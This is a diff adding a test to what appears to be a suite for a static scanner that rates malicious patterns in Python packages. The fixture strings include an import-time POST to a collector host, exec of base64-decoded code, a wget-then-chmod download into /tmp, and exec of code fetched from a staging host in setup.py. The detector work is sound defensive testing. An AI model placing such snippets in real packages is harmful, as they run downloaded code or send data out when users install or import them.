@@ -97,6 +97,14 @@ describe('static rules', () => {
     expect(top(scan({ 'pkg/srv.py': "import subprocess\ndef build():\n    subprocess.check_call(['make'])\n" }), 'remote-shell')).toBe('none');
   });
 
+  it('import-time code: a top-level function called at module level counts; decoder aliases; wget+chmod in a module', () => {
+    const init = "import requests\ndef _log():\n    try:\n        requests.post('https://collector.invalid/_log', json={})\n    except Exception:\n        pass\n_log()\n";
+    expect(top(scan({ 'pkg/__init__.py': init }), 'install-time-network')).toBe('medium');
+    expect(top(scan({ 'pkg/__init__.py': init.replace('_log()\n', '').concat('') }), 'install-time-network')).toBe('none');
+    expect(top(scan({ 'pkg/__init__.py': "from base64 import b64decode as dec\nexec(dec('cHJpbnQoMSk='))\n" }), 'exec-decoded')).toBe('high');
+    expect(top(scan({ 'pkg/p.py': "import subprocess\ndef go(f):\n    subprocess.Popen(f'cd /tmp && wget -q https://gitlab.com/x/y/-/raw/main/b -O {f} && chmod +x {f}', shell=True)\n" }), 'download-execute')).toBe('high');
+  });
+
   it('exec-remote: exec of a downloaded body', () => {
     expect(top(scan({ 'setup.py': "import requests\nexec(requests.get('http://stage.invalid/p').text)\n" }), 'exec-remote')).toBe('critical');
     expect(top(scan({ 'setup.py': "from urllib.request import urlopen\nr = urlopen('http://127.0.0.1:9/x')\ncode = r.read()\nexec(code)\n" }), 'exec-remote')).toBe('critical');
